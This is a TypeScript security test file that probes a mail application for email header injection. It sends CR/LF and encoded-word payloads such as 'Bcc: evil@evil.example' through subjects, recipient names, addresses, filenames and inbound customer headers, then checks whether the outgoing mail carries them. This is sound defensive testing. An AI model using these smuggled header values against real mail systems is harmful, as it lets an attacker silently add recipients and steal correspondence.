import { setTimeout as sleep } from 'node:timers/promises';
import { until } from '../house/until.ts';
import { type Ground, ORDER } from './ground.ts';
import { ask, brief } from './http.ts';
import { answerOf } from './people.ts';
import { ourPage } from './person.ts';
import { listOfProbes } from './probe.ts';
import type { TakenLetter } from './relay.ts';
import { handOver } from './smtp-line.ts';

const { probe, probes } = listOfProbes('letters that leave');
export const mailProbes = probes;

const LEAVES_WITHIN = 40_000;
const SPLIT = '\r\nBcc: evil@evil.example\r\nX-Injected: yes\r\n\r\nbody of an attacker';
const KIN = ['\n', '\r', '\u2028', '\u0085', '\v', '\f'].map((end) => `${end}X-Injected: yes`).join('');

interface Words {
  subject?: string;
  to?: { name: string; address: string }[];
  cc?: { name: string; address: string }[];
  uploadIds?: string[];
}

const HONEST = [{ name: '', address: 'mayumi.aoki@midori.example' }];
let letters = 0;

/** Writes an answer and sends it, as the page does. @returns the letter as the world got it, or the refusal */
async function reply(ground: Ground, conversationId: string, words: Words): Promise<TakenLetter | string> {
  const {
    people: { owner },
    relay,
  } = ground;
  letters += 1;
  const text = `返信 ${letters} attack-${letters}-`;
  const at = `/conversations/${conversationId}`;
  const { answerRevision } = await answerOf(owner, 'GET', at);
  await answerOf(owner, 'PUT', `${at}/hold`, {});
  const draft = {
    kind: 'reply',
    messageId: null,
    to: HONEST,
    cc: [],
    bcc: [],
    subject: `Re: ${letters}`,
    text,
    quote: '',
    signature: '',
    uploadIds: [],
    version: 0,
    seenRevision: answerRevision,
    ...words,
  };
  const saved = await owner.ask('PUT', `${at}/draft`, draft);
  const sent =
    saved.status === 200
      ? await owner.ask('POST', `${at}/send`, {
          kind: 'reply',
          seenRevision: answerRevision,
          submissionKey: `attack-key-${letters}`,
        })
      : saved;
  if (sent.status !== 200) {
    const drafts = await answerOf(owner, 'GET', `${at}/drafts`);
    for (const { id } of drafts.items) await owner.ask('DELETE', `/drafts/${id}`);
    await owner.ask('DELETE', `${at}/hold`);
    return brief(sent);
  }
  const marker = Buffer.from(text).toString('base64').slice(0, 16);
  return until(
    'the letter to leave',
    async () =>
      takenWith(relay.taken, [`attack-${letters}-`, marker]) ??
      (await refusedOutside(ground, sent.json.messageId)),
    LEAVES_WITHIN,
  );
}

const takenWith = (taken: readonly TakenLetter[], marks: readonly string[]) =>
  taken.find(({ text }) => marks.some((mark) => text.includes(mark))) ?? null;

/** Nothing left, because the mail server of the world did not take the addresses; null while it may still. */
async function refusedOutside({ people: { owner } }: Ground, messageId: string): Promise<string | null> {
  const { items } = await answerOf(owner, 'GET', '/outgoing');
  const item = items.find((one: { messageId: string }) => one.messageId === messageId);
  const { state, reply } = item?.delivery ?? {};
  return state === 'refused' || state === 'deferred' ? `450 nothing left: ${state} ${reply}` : null;
}

/** What an attacker won: a header of his, a recipient of his. */
function injectedIn(letter: TakenLetter): string | null {
  const header = letter.text.split('\r\n\r\n')[0] ?? '';
  // Also what a lenient reader would take for a line of its own.
  const line = /(?:^|[\r\n])(x-injected|bcc|evil)[^\r\n]*/i.exec(header)?.[0];
  const stray = letter.rcptTo.find((address) => /evil/.test(address));
  const bare = /[^\r]\n|\r[^\n]/.exec(header)?.[0];
  return line ?? stray ?? (bare === undefined ? null : 'a bare CR or LF in the header');
}

function judge(sent: string, letter: TakenLetter | string) {
  if (typeof letter === 'string') return { sent, heard: letter, isHole: !/^4\d\d /.test(letter) };
  const injected = injectedIn(letter);
  return {
    sent,
    heard: injected ?? `a letter to ${letter.rcptTo.join(', ')} without it`,
    isHole: injected !== null,
  };
}

probe(
  'a header written into the subject',
  'a line of the attacker’s in the header of the letter that leaves',
  async (ground) =>
    judge(
      'subject "Re:\\r\\nBcc: evil@…"',
      await reply(ground, ground.letters.open.conversationId, { subject: `Re:${SPLIT}${KIN}` }),
    ),
);

probe(
  'a header written into a recipient’s name',
  'a line of the attacker’s in the header, or a recipient of his',
  async (ground) =>
    judge(
      'name "a\\r\\nBcc: evil@…", "a" <evil@…>, "',
      await reply(ground, ground.letters.open.conversationId, {
        to: [{ name: `a"${SPLIT}${KIN}, <evil@evil.example>, "`, address: HONEST[0]?.address ?? '' }],
      }),
    ),
);

for (const address of [
  'a@midori.example\r\nBcc: evil@evil.example',
  'a@midori.example>,<evil@evil.example',
  'a@midori.example> SIZE=1\r\nRCPT TO:<evil@evil.example',
  'evil@evil.example, a@midori.example',
]) {
  probe(
    `a second recipient written into an address: ${address.slice(0, 40)}`,
    'a letter to somebody whom nobody chose',
    async (ground) =>
      judge(
        address,
        await reply(ground, ground.letters.open.conversationId, { cc: [{ name: '', address }] }),
      ),
  );
}

probe(
  'a header written into a file’s name',
  'a line of the attacker’s in the header of a part',
  async (ground, from) => {
    const {
      people: { owner },
      url,
    } = ground;
    const body =
      '--b\r\nContent-Disposition: form-data; name="file"; filename="a%0D%0AX-Injected: yes\\"; b.txt"\r\nContent-Type: text/plain\r\nX-Injected: yes\r\n\r\nx\r\n--b--\r\n';
    const headers = {
      cookie: owner.cookie,
      ...ourPage(url),
      'content-type': 'multipart/form-data; boundary=b',
    };
    const upload = await ask({ url: `${url}/api/v1/uploads`, method: 'POST', headers, body, from });
    if (upload.status !== 200)
      return { sent: 'filename with %0D%0A', heard: brief(upload), isHole: upload.status >= 500 };
    const letter = await reply(ground, ground.letters.open.conversationId, {
      uploadIds: [upload.json.uploadId],
    });
    if (typeof letter === 'string') return judge('filename with %0D%0A', letter);
    const line = /^x-injected.*/im.exec(letter.text)?.[0];
    return { sent: 'filename with %0D%0A', heard: line ?? 'a letter without it', isHole: line !== undefined };
  },
);

probe(
  'a header written into the sender’s name of a mailbox',
  'a line of the attacker’s in the header of each letter of the mailbox',
  async (ground) => {
    const {
      people: { owner, mailboxId },
    } = ground;
    const { items } = await answerOf(owner, 'GET', '/mailboxes');
    const {
      id: _,
      memberIds: __,
      access: ___,
      canSend: ____,
      off: _____,
      ...facts
    } = items.find(({ id }: { id: string }) => id === mailboxId);
    const saved = await owner.ask('PUT', `/mailboxes/${mailboxId}`, { ...facts, senderName: `店${SPLIT}` });
    if (saved.status !== 200)
      return { sent: 'senderName with \\r\\n', heard: brief(saved), isHole: saved.status >= 500 };
    const letter = await reply(ground, ground.letters.open.conversationId, {});
    await answerOf(owner, 'PUT', `/mailboxes/${mailboxId}`, facts);
    return judge('senderName with \\r\\nBcc: evil@…', letter);
  },
);

/** A customer's letter with this header; its conversation. */
async function letterWith(ground: Ground, from: string, subject: string, headers: string): Promise<string> {
  const bytes = `From: <mayumi.aoki@midori.example>\r\nTo: <${ORDER}>\r\nSubject: ${subject}\r\n${headers}\r\n\r\nhello`;
  const answer = await handOver({ port: ground.house.smtpPort, from }, { to: [ORDER], bytes });
  if (!answer.startsWith('250')) throw new Error(`the customer’s letter was not taken: ${answer}`);
  const found = await until(
    'the customer’s letter',
    async () => {
      const { items } = await answerOf(ground.people.owner, 'GET', '/conversations');
      return items.find((one: { subject: string }) => one.subject === subject) ?? null;
    },
    LEAVES_WITHIN,
  );
  return found.id;
}

const b64 = (text: string) => `=?UTF-8?B?${Buffer.from(text).toString('base64')}?=`;

const customers: [name: string, header: string][] = [
  ['the Message-ID', 'Message-ID: <a\r\n Bcc: evil@evil.example@midori.example>'],
  ['the Message-ID, bare', 'Message-ID: <a\nBcc: evil@evil.example\rX-Injected: yes@midori.example>'],
  [
    'the References',
    `Message-ID: <r1@midori.example>\r\nReferences: <a@midori.example> ${b64('\r\nX-Injected: yes')} <b\r\n\tX-Injected: yes@x.example>`,
  ],
  [
    'the name of Reply-To',
    `Message-ID: <r2@midori.example>\r\nReply-To: ${b64(`a${SPLIT}`)} <mayumi.aoki@midori.example>`,
  ],
  [
    'the address of Reply-To',
    'Message-ID: <r3@midori.example>\r\nReply-To: "a@x>,<evil@evil.example"@midori.example',
  ],
];
for (const [at, [name, header]] of customers.entries()) {
  probe(
    `a customer writes a header into our answer by ${name}`,
    'a line or a recipient of his in the letter that answers him',
    async (ground, from) => {
      const conversationId = await letterWith(ground, from, `split ${at} ${Date.now()}`, header);
      const proposal = await answerOf(
        ground.people.owner,
        'GET',
        `/conversations/${conversationId}/proposal?kind=reply`,
      );
      const words: Words = { to: proposal.to, subject: proposal.subject };
      const letter = await reply(ground, conversationId, words);
      // An address that cannot be one is refused when it is to be sent to; nothing left.
      return judge(header, letter);
    },
  );
}

probe(
  'a customer writes a header into our answer by the subject',
  'a line of his in the letter that answers him',
  async (ground, from) => {
    const subject = `split subject ${Date.now()}`;
    const conversationId = await letterWith(ground, from, subject, 'Message-ID: <s1@midori.example>').catch(
      () => '',
    );
    const encodedSubject = b64(`${subject}${SPLIT}`);
    await handOver(
      { port: ground.house.smtpPort, from },
      {
        to: [ORDER],
        bytes: `From: <mayumi.aoki@midori.example>\r\nTo: <${ORDER}>\r\nSubject: ${encodedSubject}\r\nMessage-ID: <s2@midori.example>\r\nIn-Reply-To: <s1@midori.example>\r\n\r\nhello`,
      },
    );
    await sleep(3_000);
    const { subject: proposed, to } = await answerOf(
      ground.people.owner,
      'GET',
      `/conversations/${conversationId}/proposal?kind=reply`,
    );
    return judge(
      'Subject: =?UTF-8?B?…\\r\\nBcc…?=',
      await reply(ground, conversationId, { subject: proposed, to }),
    );
  },
);

probe(
  'notes stand in a letter that leaves',
  'the words of a note in the text, the header or the quote of an answer',
  async (ground) => {
    const {
      people: { owner },
      letters: { copied },
    } = ground;
    const word = 'mozu5519';
    await answerOf(owner, 'POST', `/conversations/${copied.conversationId}/notes`, {
      text: `社内だけ ${word}`,
    });
    const proposal = await answerOf(
      owner,
      'GET',
      `/conversations/${copied.conversationId}/proposal?kind=reply`,
    );
    const letter = await reply(ground, copied.conversationId, { subject: proposal.subject });
    const all = `${JSON.stringify(proposal)}${typeof letter === 'string' ? '' : letter.text}`;
    const decoded =
      all +
      all
        .split(/\r\n/)
        .map((line) => Buffer.from(line, 'base64').toString('utf8'))
        .join('');
    return {
      sent: 'a note, then an answer',
      heard: decoded.includes(word) ? 'the note’s words' : 'no word of it',
      isHole: decoded.includes(word) || typeof letter === 'string',
    };
  },
);
